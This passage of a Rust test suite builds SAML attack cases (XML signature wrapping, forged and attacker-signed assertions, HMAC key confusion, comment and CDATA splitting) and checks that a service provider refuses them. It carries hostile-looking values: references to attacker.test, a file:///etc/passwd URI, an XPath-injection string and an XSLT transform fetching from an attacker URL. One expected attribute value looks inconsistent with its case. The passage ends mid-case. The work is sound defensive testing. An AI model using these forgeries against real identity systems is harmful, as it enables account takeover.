//! The attack table: every case starts from a fresh, genuine response of
//! the mock IdP ([`super::world`]) and applies one transform
//! ([`super::surgery`]), re-signing with the IdP's own key where the
//! attack assumes a signature the IdP really made, or with
//! `fixtures/pki/attacker.*` / `okta-clone.*` where the attacker signs.
//!
//! Each case names its SECURITY.md catalogue id (`attack`), a variant
//! slug, what it does, and the outcome our SP must give.

use std::time::Duration;

use time::OffsetDateTime;

use ssosim::idp::{ProfileOptions, Vendor};
use ssosim::saml::dsig::{sign_by_id, SignOptions, DSIG_NS};
use ssosim::saml::keys::{SigningKey, TrustedKeys};
use ssosim::saml::reason::Reason;
use ssosim::saml::response::SignWhat;
use ssosim::saml::validate::SpConfig;

use super::surgery::*;
use super::world::*;
use crate::idp_support::{now, users_yaml, ACS};
use crate::saml_support::{pki, signing_key};

/// What the SP must do with a case.
#[derive(Clone, Debug)]
pub enum Expect {
    Refused(Reason),
    /// Accepted, and the identity is exactly this NameID (never a
    /// truncated or injected one); optionally one attribute's first value.
    Accepted {
        name_id: String,
        attribute: Option<(&'static str, &'static str)>,
    },
}

#[derive(Clone, Debug)]
pub struct Case {
    /// The SECURITY.md catalogue id (`XSW1`, `SIG4`, `TM4`, …).
    pub attack: &'static str,
    /// A slug telling variants of one attack apart (`""` for the main one).
    pub variant: &'static str,
    pub what: String,
    pub xml: String,
    pub cfg: SpConfig,
    pub at: OffsetDateTime,
    /// The browser's outstanding AuthnRequest ID.
    pub pending: Option<String>,
    /// Messages the SP accepted first, into the same replay cache.
    pub before: Vec<String>,
    pub expect: Expect,
    /// Part of the committed differential corpus (`fixtures/saml/attacks`).
    pub corpus: bool,
}

impl Case {
    /// `ATTACK` or `ATTACK-variant`: unique across the table, and the
    /// corpus file name.
    pub fn name(&self) -> String {
        if self.variant.is_empty() {
            self.attack.to_string()
        } else {
            format!("{}-{}", self.attack, self.variant)
        }
    }

    fn with_cfg(mut self, f: impl FnOnce(&mut SpConfig)) -> Case {
        f(&mut self.cfg);
        self
    }

    fn at(mut self, t: OffsetDateTime) -> Case {
        self.at = t;
        self
    }

    fn pending(mut self, p: Option<&str>) -> Case {
        self.pending = p.map(str::to_string);
        self
    }

    fn before(mut self, x: &str) -> Case {
        self.before.push(x.to_string());
        self
    }

    fn corpus(mut self) -> Case {
        self.corpus = true;
        self
    }
}

fn case(
    attack: &'static str,
    variant: &'static str,
    what: &str,
    base: &Fresh,
    xml: String,
    expect: Expect,
) -> Case {
    Case {
        attack,
        variant,
        what: what.to_string(),
        xml,
        cfg: base.sp(),
        at: now(),
        pending: base.request_id.clone(),
        before: vec![],
        expect,
        corpus: false,
    }
}

fn refused(
    attack: &'static str,
    variant: &'static str,
    what: &str,
    base: &Fresh,
    xml: String,
    reason: Reason,
) -> Case {
    case(attack, variant, what, base, xml, Expect::Refused(reason))
}

fn accepted(
    attack: &'static str,
    variant: &'static str,
    what: &str,
    base: &Fresh,
    xml: String,
) -> Case {
    let name_id = Expect::Accepted {
        name_id: USER.to_string(),
        attribute: None,
    };
    case(attack, variant, what, base, xml, name_id)
}

const NAME_ID: &[&str] = &["Assertion", "Subject", "NameID"];
const A_SIG: &[&str] = &["Assertion", "Signature"];
const R_SIG: &[&str] = &["Signature"];

fn path<'a>(base: &[&'a str], more: &[&'a str]) -> Vec<&'a str> {
    let mut p = base.to_vec();
    p.extend_from_slice(more);
    p
}

/// The NameID of the (first top-level) assertion changed to [`EVIL`].
fn to_evil(x: &str) -> String {
    set_inner(x, NAME_ID, EVIL)
}

/// A\*: the assertion of `x` with its signature removed, NameID changed
/// to [`EVIL`], and (when given) a new ID.
fn evil_assertion(x: &str, id: Option<&str>) -> String {
    let mut d = to_evil(&remove(x, A_SIG));
    if let Some(id) = id {
        d = set_attr(&d, &["Assertion"], "ID", id);
    }
    get(&d, &["Assertion"])
}

/// The original assertion without its signature.
fn clean_assertion(x: &str) -> String {
    get(&remove(x, A_SIG), &["Assertion"])
}

fn attacker_key() -> SigningKey {
    signing_key("attacker", "attacker.crt.pem")
}

/// The attacker's RSA public key as `ds:KeyValue` (KEY3).
fn key_value(cert_pem: &[u8]) -> String {
    let cert = openssl::x509::X509::from_pem(cert_pem).unwrap();
    let rsa = cert.public_key().unwrap().rsa().unwrap();
    format!(
        "<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{}</ds:Modulus><ds:Exponent>{}</ds:Exponent>\
         </ds:RSAKeyValue></ds:KeyValue>",
        b64(&rsa.n().to_vec()),
        b64(&rsa.e().to_vec())
    )
}

const EXC: &str = "http://www.w3.org/2001/10/xml-exc-c14n#";
const ENV: &str = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";

fn transforms(algs: &[&str]) -> String {
    algs.iter()
        .map(|a| format!("<ds:Transform Algorithm=\"{a}\"></ds:Transform>"))
        .collect()
}

/// Every case of the table.
pub fn all() -> Vec<Case> {
    let mut out = vec![];
    let both = generic();
    let resp = generic_signing(SignWhat::Response);
    let assn = generic_signing(SignWhat::Assertion);
    // The control is in the corpus too: the differential script's
    // sanity row (our SP accepts it, both oracles verify it).
    out.push(
        accepted(
            "CONTROL",
            "",
            "the genuine response (generic IdP, Response and Assertion signed), unmutated",
            &both,
            both.xml.clone(),
        )
        .corpus(),
    );
    for (vendor, name) in [
        (Vendor::Okta, "okta"),
        (Vendor::Entra, "entra"),
        (Vendor::Google, "google"),
    ] {
        let f = fresh(vendor, None);
        out.push(accepted(
            "CONTROL",
            name,
            "the genuine response of this vendor profile, unmutated",
            &f,
            f.xml.clone(),
        ));
    }
    xsw(&mut out, &both, &resp, &assn);
    text_splitting(&mut out);
    signatures(&mut out, &both, &resp, &assn);
    keys(&mut out, &both, &assn);
    references(&mut out, &both, &assn);
    algorithms(&mut out, &assn);
    xml_profile(&mut out, &both);
    semantics(&mut out, &both);
    out
}

/// §1.A: SAML Raider's XSWHelpers shapes and their relatives.
fn xsw(out: &mut Vec<Case>, both: &Fresh, resp: &Fresh, assn: &Fresh) {
    // XSW1/2 (SAML Raider applyXSW1/2): R' = R without its Signature; the
    // evil R gets a new ID and A*. Raider keeps the assertion's ID, so the
    // ID is duplicated: I4 refuses before any signature is looked at (the
    // Reference #R naming R' rather than the Signature's parent, I3, would
    // refuse it next).
    let x = &resp.xml;
    let r_prime = remove(x, R_SIG);
    let evil_r = to_evil(&set_attr(x, &[], "ID", "_evil_response_ID"));
    out.push(
        refused(
            "XSW1",
            "",
            "signed Response copy R' appended inside the evil Response's ds:Signature",
            resp,
            append_child(&evil_r, R_SIG, &r_prime),
            Reason::DuplicateId,
        )
        .corpus(),
    );
    out.push(
        refused(
            "XSW2",
            "",
            "signed Response copy R' inserted before the evil Response's ds:Signature",
            resp,
            insert_before(&evil_r, R_SIG, &r_prime),
            Reason::DuplicateId,
        )
        .corpus(),
    );

    let x = &assn.xml;
    let a_orig = get(x, &["Assertion"]);
    let a_evil = evil_assertion(x, Some("_evil_assertion_ID"));
    out.push(
        refused(
            "XSW3",
            "",
            "unsigned A* (new ID) inserted before the signed assertion",
            assn,
            insert_before(x, &["Assertion"], &a_evil),
            Reason::MultipleAssertions,
        )
        .corpus(),
    );
    // MA1/MA2 (I5): a second top-level assertion after the signed one,
    // unsigned, or signed by the IdP too (for another subject).
    out.push(refused(
        "MA1",
        "",
        "unsigned A* appended after the signed assertion",
        assn,
        insert_after(x, &["Assertion"], &a_evil),
        Reason::MultipleAssertions,
    ));
    let id = &assn.assertion_id;
    let second = a_orig
        .replace(&format!("ID=\"{id}\""), "ID=\"_second_assertion_ID\"")
        .replace(&format!("URI=\"#{id}\""), "URI=\"#_second_assertion_ID\"");
    let two = set_inner(
        &insert_after(x, &["Assertion"], &second),
        &["Assertion#1", "Subject", "NameID"],
        EVIL,
    );
    out.push(refused(
        "MA2",
        "",
        "two assertions, both signed by the IdP, for different subjects",
        assn,
        reseal(&two, &["Assertion#1", "Signature"], &assn.pkey()),
        Reason::MultipleAssertions,
    ));
    // XSW4: the only top-level assertion is A*; the signature now sits in
    // a nested assertion, which is neither the Response nor the consumed
    // Assertion (I2/I5).
    let xsw4 = append_child(
        &replace(x, &["Assertion"], &a_evil),
        &["Assertion"],
        &a_orig,
    );
    out.push(
        refused(
            "XSW4",
            "",
            "A* appended; the signed assertion moved inside A* as its child",
            assn,
            xsw4,
            Reason::UnexpectedSignature,
        )
        .corpus(),
    );
    let evil_in_place = to_evil(&set_attr(x, &["Assertion"], "ID", "_evil_assertion_ID"));
    let clean = clean_assertion(x);
    out.push(
        refused(
            "XSW5",
            "",
            "assertion edited in place (new ID, signature kept); clean original appended to the Response",
            assn,
            append_child(&evil_in_place, &[], &clean),
            Reason::MultipleAssertions,
        )
        .corpus(),
    );
    out.push(
        refused(
            "XSW6",
            "",
            "as XSW5, the clean original inside the evil assertion's ds:Signature",
            assn,
            append_child(&evil_in_place, A_SIG, &clean),
            Reason::SignatureShapeInvalid,
        )
        .corpus(),
    );
    let a_evil_same_id = evil_assertion(x, None);
    out.push(
        refused(
            "XSW7",
            "",
            "unqualified <Extensions> before the assertion holding A* with the same ID",
            assn,
            insert_before(
                x,
                &["Assertion"],
                &format!("<Extensions>{a_evil_same_id}</Extensions>"),
            ),
            Reason::DuplicateId,
        )
        .corpus(),
    );
    out.push(
        refused(
            "XSW8",
            "",
            "assertion edited in place (ID and signature kept); clean copy with the same ID in ds:Object",
            assn,
            append_child(
                &to_evil(x),
                A_SIG,
                &format!("<ds:Object>{clean}</ds:Object>"),
            ),
            Reason::DuplicateId,
        )
        .corpus(),
    );
    // XSW9 (CVE-2019-3465): A* carries the original SignedInfo and
    // SignatureValue plus a forged SignedInfo digesting A*; the original
    // assertion waits in a <Wrapper> (both in ds:Object, where xmlsec1
    // tolerates them), so the original signature still verifies over it.
    let with_a_evil = replace(x, &["Assertion"], &a_evil);
    let forged_si = get(x, &path(A_SIG, &["SignedInfo"]))
        .replace(
            &format!("URI=\"#{}\"", assn.assertion_id),
            "URI=\"#_evil_assertion_ID\"",
        )
        .replace(
            &get(x, &path(A_SIG, &["SignedInfo", "Reference", "DigestValue"])),
            &format!(
                "<ds:DigestValue>{}</ds:DigestValue>",
                digest_of(&with_a_evil, &["Assertion"])
            ),
        );
    let xsw9 = append_child(
        &insert_after(&with_a_evil, &["Assertion", "Issuer"], &get(x, A_SIG)),
        A_SIG,
        &format!("<ds:Object><Wrapper>{clean}</Wrapper>{forged_si}</ds:Object>"),
    );
    out.push(
        refused(
            "XSW9",
            "",
            "second (forged) SignedInfo digesting A*; the original assertion moved into a <Wrapper>",
            assn,
            xsw9,
            Reason::SignatureShapeInvalid,
        )
        .corpus(),
    );

    // XSW-ANC: attacker-controlled ancestors around signed content. Only
    // a direct child of the Response is ever consumed (I2/I5).
    out.push(
        refused(
            "XSW-ANC",
            "",
            "the signed assertion moved under an attacker ancestor (samlp:Extensions) of the Response",
            assn,
            replace(
                x,
                &["Assertion"],
                &format!("<samlp:Extensions>{a_orig}</samlp:Extensions>"),
            ),
            Reason::NoAssertion,
        )
        .corpus(),
    );
    out.push(refused(
        "XSW-ANC",
        "root",
        "the genuine signed Response wrapped in an attacker root element",
        both,
        format!(
            "<evil:Envelope xmlns:evil=\"urn:evil:ancestor\" Destination=\"{ACS}\">{}</evil:Envelope>",
            both.xml
        ),
        Reason::NotAResponse,
    ));

    // XSW-DONOR: the IdP's own metadata, signed by the IdP, embedded in a
    // forged unsigned Response (CVE-2024-6800 class).
    let md = both.idp.metadata_xml();
    let md = md
        .trim_start_matches("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n")
        .trim_end();
    let md = set_attr(md, &[], "ID", "_idp_metadata");
    let signed_md = sign_by_id(
        md.as_bytes(),
        "_idp_metadata",
        both.key(),
        &SignOptions::default(),
    )
    .unwrap();
    let forged = to_evil(&strip_signatures(&both.xml));
    out.push(
        refused(
            "XSW-DONOR",
            "",
            "the IdP's signed metadata embedded (samlp:Extensions) in a forged unsigned Response",
            both,
            insert_after(
                &forged,
                &["Issuer"],
                &format!("<samlp:Extensions>{signed_md}</samlp:Extensions>"),
            ),
            Reason::UnexpectedSignature,
        )
        .corpus(),
    );

    // XSW-ADV: Advice assertions are never identity.
    let advice = |inner: &str| format!("<saml:Advice>{inner}</saml:Advice>");
    out.push(
        refused(
            "XSW-ADV",
            "",
            "the signed assertion moved into the Advice of an unsigned top-level A*",
            assn,
            insert_before(
                &with_a_evil,
                &["Assertion", "AuthnStatement"],
                &advice(&a_orig),
            ),
            Reason::UnexpectedSignature,
        )
        .corpus(),
    );
    let advice_evil = evil_assertion(x, Some("_advice_assertion_ID"));
    out.push(refused(
        "XSW-ADV",
        "injected",
        "A* injected into Advice inside the genuinely signed assertion",
        assn,
        insert_before(x, &["Assertion", "AuthnStatement"], &advice(&advice_evil)),
        Reason::DigestMismatch,
    ));
    let idp_signed_advice = assn.signed(
        &insert_before(
            &strip_signatures(x),
            &["Assertion", "AuthnStatement"],
            &advice(&advice_evil),
        ),
        SignWhat::Assertion,
    );
    out.push(accepted(
        "XSW-ADV",
        "idp-signed",
        "the IdP itself signed an assertion whose Advice holds an admin assertion: accepted as the outer subject only",
        assn,
        idp_signed_advice,
    ));

    // XSW-REL: the assertion's signature relocated onto the Response.
    out.push(
        refused(
            "XSW-REL",
            "",
            "the assertion's ds:Signature moved to the Response (after Issuer), still referencing the assertion",
            assn,
            insert_after(&remove(x, A_SIG), &["Issuer"], &get(x, A_SIG)),
            Reason::ReferenceUriMismatch,
        )
        .corpus(),
    );
}

/// §1.D: comment, CDATA, PI and character-reference splitting.
fn text_splitting(out: &mut Vec<Case>) {
    // The IdP signs the attacker's own account `ada@acme.test.evil.test`;
    // a comment makes a naive reader see `ada@acme.test`.
    let long = "ada@acme.test.evil.test";
    let yaml = format!("users:\n  - {{ email: {long}, first_name: Ada, groups: [Engineering] }}\n");
    let f = fresh_for(Vendor::Generic, &ProfileOptions::default(), &yaml, long);
    let split = |with: &str| {
        f.xml.replace(
            &format!(">{long}</saml:NameID>"),
            &format!(">ada@acme.test{with}.evil.test</saml:NameID>"),
        )
    };
    out.push(case(
        "TXT1",
        "",
        "comment splits the signed NameID ada@acme.test<!---->.evil.test",
        &f,
        split("<!---->"),
        Expect::Accepted {
            name_id: long.to_string(),
            attribute: None,
        },
    ));
    out.push(refused(
        "TXT3",
        "",
        "CDATA splits the NameID ada@acme.test<![CDATA[.evil.test]]>",
        &f,
        split("<![CDATA[]]>"),
        Reason::CdataForbidden,
    ));
    out.push(refused(
        "TXT4",
        "",
        "PI splits the NameID (<?p not-an-?>)",
        &f,
        split("<?p not-an-?>"),
        Reason::ProcessingInstructionForbidden,
    ));
    let g = generic();
    out.push(case(
        "TXT2",
        "",
        "comment inside an AttributeValue (Engi<!-- attack! -->neering)",
        &g,
        g.xml
            .replace(">Engineering<", ">Engi<!-- attack! -->neering<"),
        Expect::Accepted {
            name_id: USER.to_string(),
            attribute: Some(("groups", "anthropic-claudeai-1a2b3c4d-owner")),
        },
    ));
    out.push(accepted(
        "TXT5",
        "",
        "character reference in the NameID (&#x61;da@acme.test) decodes to the signed value",
        &g,
        g.xml.replace(
            &format!(">{USER}</saml:NameID>"),
            ">&#x61;da@acme.test</saml:NameID>",
        ),
    ));
}

/// §1.B signature presence and exclusion.
fn signatures(out: &mut Vec<Case>, both: &Fresh, resp: &Fresh, assn: &Fresh) {
    let x = &both.xml;
    out.push(refused(
        "SIG1",
        "",
        "every ds:Signature deleted, NameID edited",
        both,
        to_evil(&strip_signatures(x)),
        Reason::SignatureMissing,
    ));
    let sv = path(R_SIG, &["SignatureValue"]);
    out.push(refused(
        "SIG2",
        "empty",
        "empty Response SignatureValue",
        both,
        set_inner(x, &sv, ""),
        Reason::SignatureInvalid,
    ));
    out.push(refused(
        "SIG2",
        "garbage",
        "random base64 as the Response SignatureValue",
        both,
        set_inner(x, &sv, "Z2FyYmFnZSBnYXJiYWdlIGdhcmJhZ2U="),
        Reason::SignatureInvalid,
    ));
    out.push(refused(
        "SIG2",
        "not-base64",
        "SignatureValue that is not base64",
        both,
        set_inner(x, &sv, "!!!not base64!!!"),
        Reason::SignatureInvalid,
    ));
    out.push(refused(
        "SIG3",
        "",
        "ds:SignedInfo deleted from the Response signature",
        both,
        remove(x, &path(R_SIG, &["SignedInfo"])),
        Reason::SignatureShapeInvalid,
    ));
    out.push(accepted(
        "SIG4",
        "",
        "Response signed, assertion unsigned, want_assertions_signed off: the Response signature covers it",
        resp,
        resp.xml.clone(),
    ));
    out.push(
        refused(
            "SIG4",
            "want-assertions-signed",
            "Response signed, assertion unsigned, want_assertions_signed on",
            resp,
            resp.xml.clone(),
            Reason::AssertionNotSigned,
        )
        .with_cfg(|c| c.want_assertions_signed = true),
    );
    let y = &assn.xml;
    out.push(refused(
        "SIG5",
        "destination",
        "assertion-only signature; unsigned envelope Destination edited",
        assn,
        set_attr(y, &[], "Destination", "https://evil.test/acs"),
        Reason::DestinationMismatch,
    ));
    out.push(refused(
        "SIG5",
        "in-response-to",
        "assertion-only signature; unsigned envelope InResponseTo edited",
        assn,
        set_attr(y, &[], "InResponseTo", "_attacker_request_id"),
        Reason::InResponseToMismatch,
    ));
    out.push(refused(
        "SIG5",
        "status",
        "assertion-only signature; unsigned envelope StatusCode edited",
        assn,
        set_attr(
            y,
            &["Status", "StatusCode"],
            "Value",
            "urn:oasis:names:tc:SAML:2.0:status:Responder",
        ),
        Reason::StatusNotSuccess,
    ));
    out.push(
        refused(
            "SIG6",
            "",
            "no IdP key configured: a genuine signed response is refused (fail closed)",
            both,
            x.clone(),
            Reason::NoTrustedKeys,
        )
        .with_cfg(|c| c.idp_keys = TrustedKeys::new(vec![])),
    );
    out.push(
        refused(
            "SIG6",
            "unsigned",
            "no IdP key configured and an unsigned response",
            both,
            strip_signatures(x),
            Reason::SignatureMissing,
        )
        .with_cfg(|c| c.idp_keys = TrustedKeys::new(vec![])),
    );
}

/// §1.B key trust.
fn keys(out: &mut Vec<Case>, both: &Fresh, assn: &Fresh) {
    let x = &assn.xml;
    let by_attacker = sign_as(&to_evil(x), SignWhat::Assertion, &attacker_key());
    out.push(refused(
        "KEY1",
        "",
        "assertion edited and re-signed by the attacker, attacker cert in KeyInfo",
        assn,
        by_attacker.clone(),
        Reason::UntrustedKey,
    ));
    out.push(refused(
        "KEY1",
        "both",
        "Response and assertion edited and re-signed by the attacker",
        both,
        sign_as(&to_evil(&both.xml), SignWhat::Both, &attacker_key()),
        Reason::UntrustedKey,
    ));
    let okta = fresh(Vendor::Okta, None);
    let clone = SigningKey::from_pem(&pki("attacker.key.pem"), &pki("okta-clone.crt.pem")).unwrap();
    out.push(refused(
        "KEY2",
        "",
        "Okta response edited, re-signed with the attacker key and a clone of Okta's certificate",
        &okta,
        sign_as(&to_evil(&okta.xml), SignWhat::Response, &clone),
        Reason::UntrustedKey,
    ));
    let ki = path(A_SIG, &["KeyInfo"]);
    let attacker_kv = format!(
        "<ds:KeyInfo>{}</ds:KeyInfo>",
        key_value(&pki("attacker.crt.pem"))
    );
    out.push(refused(
        "KEY3",
        "",
        "attacker-signed, KeyInfo holds only the attacker's RSAKeyValue",
        assn,
        replace(&by_attacker, &ki, &attacker_kv),
        Reason::SignatureInvalid,
    ));
    let pinned_kv = format!(
        "<ds:KeyInfo>{}</ds:KeyInfo>",
        key_value(&pki("idp-generic.crt.pem"))
    );
    out.push(accepted(
        "KEY3",
        "pinned",
        "genuine signature, KeyInfo holds the pinned key as RSAKeyValue (what some IdPs send)",
        assn,
        replace(x, &ki, &pinned_kv),
    ));
    let rm = "<ds:KeyInfo><ds:RetrievalMethod URI=\"http://attacker.test/key\" \
              Type=\"http://www.w3.org/2000/09/xmldsig#X509Data\"/></ds:KeyInfo>";
    out.push(accepted(
        "KEY4",
        "",
        "genuine signature, KeyInfo is a RetrievalMethod to an attacker URL: ignored, never fetched",
        assn,
        replace(x, &ki, rm),
    ));
    out.push(refused(
        "KEY4",
        "attacker",
        "attacker-signed, KeyInfo is a RetrievalMethod to the attacker's key",
        assn,
        replace(&by_attacker, &ki, rm),
        Reason::SignatureInvalid,
    ));
    out.push(refused(
        "KEY4",
        "key-name",
        "attacker-signed, KeyInfo names the IdP's key (KeyName)",
        assn,
        replace(
            &by_attacker,
            &ki,
            "<ds:KeyInfo><ds:KeyName>idp-generic</ds:KeyName></ds:KeyInfo>",
        ),
        Reason::SignatureInvalid,
    ));
    // KEY5/6: HMAC keyed with the IdP's public certificate.
    let hmac_base = set_attr(
        &remove(&sign_as(&to_evil(x), SignWhat::Assertion, assn.key()), &ki),
        &path(A_SIG, &["SignedInfo", "SignatureMethod"]),
        "Algorithm",
        "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
    );
    let hmac_base = set_attr(
        &hmac_base,
        &path(A_SIG, &["SignedInfo", "SignatureMethod"]),
        "Algorithm",
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
    );
    let cert = pki("idp-generic.crt.pem");
    out.push(refused(
        "KEY5",
        "",
        "SignatureMethod hmac-sha256 keyed with the IdP's public certificate",
        assn,
        hmac_sign(&hmac_base, A_SIG, &cert),
        Reason::AlgorithmForbidden,
    ));
    let truncated = set_inner(
        &hmac_base,
        &path(A_SIG, &["SignedInfo", "SignatureMethod"]),
        "<ds:HMACOutputLength>8</ds:HMACOutputLength>",
    );
    out.push(refused(
        "KEY6",
        "",
        "HMAC with HMACOutputLength 8 (CVE-2009-0217)",
        assn,
        hmac_sign(&truncated, A_SIG, &cert),
        Reason::AlgorithmForbidden,
    ));
    // KEY7: IdP B's key with IdP A's issuer, and IdP B's genuine response.
    let okta_key = signing_key("idp-okta", "idp-okta.crt.pem");
    let by_b = sign_as(&both.xml, SignWhat::Both, &okta_key);
    out.push(refused(
        "KEY7",
        "",
        "issuer is IdP A (generic), signed by IdP B (okta) with B's cert in KeyInfo",
        both,
        by_b.clone(),
        Reason::UntrustedKey,
    ));
    out.push(refused(
        "KEY7",
        "no-key-info",
        "issuer A, signed by IdP B, KeyInfo removed",
        both,
        remove(&remove(&by_b, &path(R_SIG, &["KeyInfo"])), &ki),
        Reason::SignatureInvalid,
    ));
    let mut okta_at_generic = case(
        "KEY7",
        "b-issuer",
        "IdP B's genuine response (issuer B) sent to the SP of IdP A",
        both,
        okta.xml.clone(),
        Expect::Refused(Reason::IssuerMismatch),
    );
    okta_at_generic.pending = okta.request_id.clone();
    out.push(okta_at_generic);
}

/// §1.C reference, ID and SignedInfo confusion. Edits inside SignedInfo
/// are re-signed with the IdP's key (`resign`): the IdP "really signed"
/// the odd shape, so only our shape rules stand between it and a login.
fn references(out: &mut Vec<Case>, both: &Fresh, assn: &Fresh) {
    let x = &assn.xml;
    let pkey = assn.pkey();
    let edited = to_evil(x);
    let new_digest = digest_of(&edited, &["Assertion"]);
    let dv = path(A_SIG, &["SignedInfo", "Reference", "DigestValue"]);
    out.push(
        refused(
            "REF1",
            "",
            "assertion edited; its digest placed in a ds:DigestValue in samlp:Extensions, SignedInfo untouched",
            assn,
            insert_after(
                &edited,
                &["Issuer"],
                &format!(
                    "<samlp:Extensions><ds:DigestValue xmlns:ds=\"{DSIG_NS}\">{new_digest}</ds:DigestValue></samlp:Extensions>"
                ),
            ),
            Reason::DigestMismatch,
        )
        .corpus(),
    );
    let orig_digest = parse_text(x, &dv);
    out.push(
        refused(
            "REF2",
            "",
            "assertion edited; its digest in a comment inside the original DigestValue",
            assn,
            set_inner(&edited, &dv, &format!("<!--{new_digest}-->{orig_digest}")),
            Reason::SignatureShapeInvalid,
        )
        .corpus(),
    );
    // REF3: a second SignedInfo (sibling) whose Reference digests an
    // attacker element.
    let with_evil = insert_after(
        x,
        &["Issuer"],
        "<samlp:Extensions><Evil ID=\"OUR_CUSTOM_ID\">admin</Evil></samlp:Extensions>",
    );
    let forged_si = get(x, &path(A_SIG, &["SignedInfo"]))
        .replace(
            &format!("URI=\"#{}\"", assn.assertion_id),
            "URI=\"#OUR_CUSTOM_ID\"",
        )
        .replace(
            &get(x, &dv),
            &format!(
                "<ds:DigestValue>{}</ds:DigestValue>",
                digest_of(&with_evil, &["Extensions", "Evil"])
            ),
        );
    out.push(
        refused(
            "REF3",
            "",
            "a second ds:SignedInfo after the original, referencing an attacker element with a correct digest",
            assn,
            insert_after(&with_evil, &path(A_SIG, &["SignedInfo"]), &forged_si),
            Reason::SignatureShapeInvalid,
        )
        .corpus(),
    );
    // REF4: two References (a duplicate of the first), re-signed by the IdP.
    let reference = get(x, &path(A_SIG, &["SignedInfo", "Reference"]));
    let two_refs = resign(
        &insert_after(x, &path(A_SIG, &["SignedInfo", "Reference"]), &reference),
        A_SIG,
        &pkey,
    );
    out.push(
        refused(
            "REF4",
            "",
            "SignedInfo with a second Reference (a duplicate of the first), signed by the IdP",
            assn,
            two_refs,
            Reason::SignatureShapeInvalid,
        )
        .corpus(),
    );
    // REF5 (I4): the Response's ID repeated inside Extensions.
    out.push(refused(
        "REF5",
        "",
        "the Response's ID duplicated on an element inside samlp:Extensions",
        both,
        insert_after(
            &both.xml,
            R_SIG,
            &format!(
                "<samlp:Extensions><x ID=\"{}\"/></samlp:Extensions>",
                both.response_id
            ),
        ),
        Reason::DuplicateId,
    ));
    // REF6: only the unqualified ID attribute is an ID.
    let renamed = format!("Id=\"{}\"", assn.assertion_id);
    out.push(refused(
        "REF6",
        "",
        "the signed assertion's ID attribute renamed to Id (attribute pollution)",
        assn,
        x.replacen(&format!("ID=\"{}\"", assn.assertion_id), &renamed, 1),
        Reason::IdInvalid,
    ));
    out.push(refused(
        "REF6",
        "ns-equivalent",
        "two namespace-equivalent ID attributes (a:ID and b:ID, one URI)",
        assn,
        set_attr(
            x,
            &["Assertion", "Subject"],
            "xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:ID=\"_p\" b:ID",
            "_q",
        ),
        Reason::DuplicateAttribute,
    ));
    let reference_path = path(A_SIG, &["SignedInfo", "Reference"]);
    for (variant, uri, what) in [
        ("empty", "", "URI=\"\" (the whole document)"),
        ("hash-only", "#", "URI=\"#\""),
        ("xpointer-root", "#xpointer(/)", "URI=\"#xpointer(/)\""),
        (
            "xpointer-id",
            "#xpointer(id('ID'))",
            "URI=\"#xpointer(id('…'))\"",
        ),
        ("no-hash", "ID", "the ID without '#'"),
        ("external", "http://attacker.test/x", "an external http URI"),
        ("file", "file:///etc/passwd", "a file URI"),
    ] {
        let uri = uri.replace("ID", &assn.assertion_id);
        out.push(refused(
            "REF7",
            variant,
            &format!("Reference {what}, signed by the IdP"),
            assn,
            resign(&set_attr(x, &reference_path, "URI", &uri), A_SIG, &pkey),
            Reason::ReferenceUriInvalid,
        ));
    }
    out.push(refused(
        "REF8",
        "",
        "XPath injection in the Reference URI (#x'] or eval(...) or /[@ID='v)",
        assn,
        resign(
            &set_attr(
                x,
                &reference_path,
                "URI",
                "#x'] or eval('$evalled = true') or /[@ID='v",
            ),
            A_SIG,
            &pkey,
        ),
        Reason::ReferenceUriInvalid,
    ));
    let sig = get(x, A_SIG);
    out.push(refused(
        "REF9",
        "",
        "the assertion's Signature moved after Subject",
        assn,
        insert_after(&remove(x, A_SIG), &["Assertion", "Subject"], &sig),
        Reason::SignatureMisplaced,
    ));
    out.push(refused(
        "REF9",
        "twice",
        "the assertion carries its Signature twice",
        assn,
        insert_after(x, A_SIG, &sig),
        Reason::SignatureMisplaced,
    ));
    out.push(refused(
        "REF9",
        "status-detail",
        "a copy of the assertion's Signature in samlp:StatusDetail",
        both,
        append_child(
            &both.xml,
            &["Status"],
            &format!(
                "<samlp:StatusDetail>{}</samlp:StatusDetail>",
                get(&both.xml, A_SIG)
            ),
        ),
        Reason::UnexpectedSignature,
    ));
    let c14n_path = path(A_SIG, &["SignedInfo", "CanonicalizationMethod"]);
    for (variant, alg) in [
        (
            "inclusive",
            "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
        ),
        (
            "with-comments",
            "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
        ),
        ("c14n11", "http://www.w3.org/2006/12/xml-c14n11"),
    ] {
        out.push(refused(
            "REF10",
            variant,
            &format!("SignedInfo CanonicalizationMethod {alg}, signed by the IdP"),
            assn,
            resign(&set_attr(x, &c14n_path, "Algorithm", alg), A_SIG, &pkey),
            Reason::AlgorithmForbidden,
        ));
    }
    let sv = path(A_SIG, &["SignatureValue"]);
    let value = parse_text(x, &sv);
    let wrapped: Vec<&str> = value
        .as_bytes()
        .chunks(64)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    out.push(accepted(
        "REF11",
        "",
        "SignatureValue line-wrapped every 64 characters (legal base64Binary whitespace)",
        assn,
        set_inner(x, &sv, &format!("\n{}\n", wrapped.join("\n"))),
    ));
    out.push(refused(
        "REF11",
        "invalid",
        "DigestValue that is not base64 (re-signed by the IdP)",
        assn,
        resign(&set_inner(x, &dv, "not*base64"), A_SIG, &pkey),
        Reason::DigestMismatch,
    ));
}

fn parse_text(x: &str, p: &[&str]) -> String {
    x[inner(x, p)].to_string()
}

/// §1.F transforms and algorithms (each SignedInfo re-signed by the IdP).
fn algorithms(out: &mut Vec<Case>, assn: &Fresh) {
    let x = &assn.xml;
    let pkey = assn.pkey();
    let tp = path(A_SIG, &["SignedInfo", "Reference", "Transforms"]);
    let with_transforms = |inner: &str| resign(&set_inner(x, &tp, inner), A_SIG, &pkey);
    let xslt = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\">\
                <xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"2.0\">\
                <xsl:template match=\"/\"><xsl:value-of select=\"unparsed-text('http://attacker.test/x')\"/>\
                </xsl:template></xsl:stylesheet></ds:Transform>";
    out.push(refused(
        "ALG1",
        "",
